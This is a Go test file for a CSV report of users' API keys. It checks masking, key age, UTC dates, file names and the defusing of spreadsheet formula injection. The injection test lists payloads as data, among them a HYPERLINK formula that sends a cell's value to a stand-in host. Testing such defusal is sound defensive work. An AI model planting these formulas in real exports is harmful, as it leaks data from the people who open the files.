package access_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/keydesk/keydesk/access"
)

const header = "User ID,Masked Key,Key Status,Key Age (days),Last Used\r\n"

// report returns the report of these keys as made at noon.
func report(keys ...access.Key) string {
	r, out := access.NewReport(noon()), []byte(access.ReportHeader)
	for _, key := range keys {
		out = r.Append(out, key)
	}
	return string(out)
}

// AZ-12
func TestReportOfNothingIsItsHeader(t *testing.T) {
	if got := report(); got != header {
		t.Errorf("got %q, want %q", got, header)
	}
}

// AZ-12: five columns, no more; times are UTC to the second.
func TestReportRows(t *testing.T) {
	local := time.FixedZone("local", 2*3600)
	got := report(
		access.Key{
			ID: "01890000-0000-7000-8000-000000000000", UserID: "alice", Name: "CI, \"nightly\"", Last4: "7Hq0",
			CreatedAt:  noon().Add(-72*time.Hour + time.Second),
			LastUsedAt: time.Date(2026, time.March, 1, 1, 2, 3, 999_999_000, local),
		},
		access.Key{
			UserID: "bob", Last4: "0001", CreatedAt: noon().Add(-400 * 24 * time.Hour), DeactivatedAt: noon(),
			DeactivatedBy: "root", Reason: "left",
		},
		access.Key{UserID: "carol", Last4: "zzzz", CreatedAt: noon().Add(time.Hour)},
	)
	want := header +
		"alice,********7Hq0,active,2,2026-02-28T23:02:03Z\r\n" +
		"bob,********0001,inactive,400,\r\n" +
		"carol,********zzzz,active,0,\r\n"
	if got != want {
		t.Errorf("got\n%q, want\n%q", got, want)
	}
}

// IO-3. No User ID looks so; a cell must be safe whatever stands in the database.
func TestFormulaIsDefused(t *testing.T) {
	for cell, want := range map[string]string{
		"=1+1":                            "'=1+1",
		"+1":                              "'+1",
		"-1":                              "'-1",
		"@SUM(A1)":                        "'@SUM(A1)",
		"\t=1":                            "'\t=1",
		"\x00=1":                          "'\x00=1",
		"＝1+1":                            "'＝1+1",
		"＋1":                              "'＋1",
		"－1":                              "'－1",
		"＠SUM(A1)":                        "'＠SUM(A1)",
		`=HYPERLINK("http://x/?"&A1,"y")`: `'=HYPERLINK("http://x/?"&A1,"y")`,
		"a=1+1":                           "a=1+1",
		"'=1+1":                           "'=1+1",
		"a,b\"c":                          "a,b\"c",
	} {
		out := report(access.Key{UserID: cell, Last4: "7Hq0", CreatedAt: noon()})
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%q: %d rows, %v in %q", cell, len(rows), err, out)
		}
		if got := rows[1][0]; got != want {
			t.Errorf("%q stands as %q, want %q", cell, got, want)
		}
	}
	// encoding/csv drops a carriage return where lines end in CRLF; the cell stays defused.
	want := header + "\"'=1\",********7Hq0,active,0,\r\n"
	if got := report(access.Key{UserID: "\r=1", Last4: "7Hq0", CreatedAt: noon()}); got != want {
		t.Errorf("after a carriage return: got %q, want %q", got, want)
	}
}

// IO-3: whatever stands in the database, the row is what encoding/csv would write.
func FuzzReportIsCSV(f *testing.F) {
	for _, cell := range []string{"alice", "", " a", "\u00a0a", `\.`, "a,b", `a"b`, "a\r\nb", "'=1", "-1", "\xff", "é", ".", "*", "a\x00"} {
		f.Add(cell, cell)
	}
	f.Fuzz(func(t *testing.T, userID, last4 string) {
		k := access.Key{UserID: userID, Last4: last4, CreatedAt: noon().Add(-50 * time.Hour), LastUsedAt: noon()}
		var want bytes.Buffer
		out := csv.NewWriter(&want)
		out.UseCRLF = true
		if userID != "" && strings.ContainsRune("=+-@\t\r\n\x00＝＋－＠", []rune(userID)[0]) {
			userID = "'" + userID
		}
		if err := out.Write([]string{userID, "********" + last4, "active", "2", "2026-03-01T12:00:00Z"}); err != nil {
			t.Fatal(err)
		}
		out.Flush()
		if got := report(k); got != header+want.String() {
			t.Errorf("got %q, want %q", got, header+want.String())
		}
	})
}

func TestReportRowTakesNoMemory(t *testing.T) {
	r, row := access.NewReport(noon()), make([]byte, 0, 1024)
	k := access.Key{UserID: "alice", Last4: "7Hq0", CreatedAt: noon(), LastUsedAt: noon()}
	if n := testing.AllocsPerRun(100, func() { row = r.Append(row[:0], k) }); n > 0 {
		t.Errorf("%v allocations", n)
	}
}

func TestReportNameHasTheDateInUTC(t *testing.T) {
	west := time.FixedZone("west", -5*3600)
	for now, want := range map[time.Time]string{
		noon(): "account-api-keys-2026-03-01.csv",
		time.Date(2026, time.February, 28, 23, 30, 0, 0, west):                      "account-api-keys-2026-03-01.csv",
		time.Date(2026, time.March, 1, 0, 30, 0, 0, time.FixedZone("east", 9*3600)): "account-api-keys-2026-02-28.csv",
		time.Date(2026, time.December, 31, 23, 59, 59, 0, time.UTC):                 "account-api-keys-2026-12-31.csv",
	} {
		if got := access.ReportName(now); got != want {
			t.Errorf("%v: got %s, want %s", now, got, want)
		}
	}
}
